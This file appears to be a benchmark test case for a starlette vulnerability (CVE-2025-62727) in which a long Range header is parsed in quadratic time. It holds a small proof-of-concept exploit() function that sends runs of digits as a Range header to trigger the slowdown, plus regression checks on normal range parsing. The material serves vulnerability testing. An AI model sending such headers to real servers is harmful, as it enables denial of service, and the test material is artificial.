# /// case
# id = "CVE-2025-62727"
# package = "starlette"
# vulnerable = "0.49.0"
# fixed = "0.49.1"
# what = "a long Range header takes quadratic time to read"
# shape = "a static method becomes a class method, another is new, a constant goes"
# requires = ["anyio==4.6.2", "idna==3.10", "sniffio==1.3.1", "typing_extensions==4.12.2"]
# modules = ["starlette", "starlette.responses"]
# ///
"""Digits that no dash follows were scanned again from each of them."""

import asyncio
import tempfile
from pathlib import Path
from typing import Any

from slow import SIZES, blows_up
from starlette.responses import FileResponse

SERVED = Path(tempfile.mkdtemp(), "served")
SERVED.write_bytes(b"0123456789")
RESPONSE = FileResponse(SERVED)


def _get(header: str) -> tuple[int, bytes]:
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    async def receive() -> dict[str, Any]:
        return {"type": "http.disconnect"}

    scope = {"type": "http", "method": "GET", "path": "/", "headers": [(b"range", header.encode())]}
    asyncio.run(FileResponse(SERVED)(scope, receive, send))
    return sent[0]["status"], b"".join(message["body"] for message in sent[1:])


def exploit() -> bool:
    return blows_up(lambda size: _get("bytes=" + "1" * size), SIZES)


def regression() -> None:
    assert _get("bytes=1-3") == (206, b"123")
    assert _get("bytes=-2") == (206, b"89")
    assert RESPONSE._parse_range_header("bytes=0-0,5-", 10) == [(0, 1), (5, 10)]
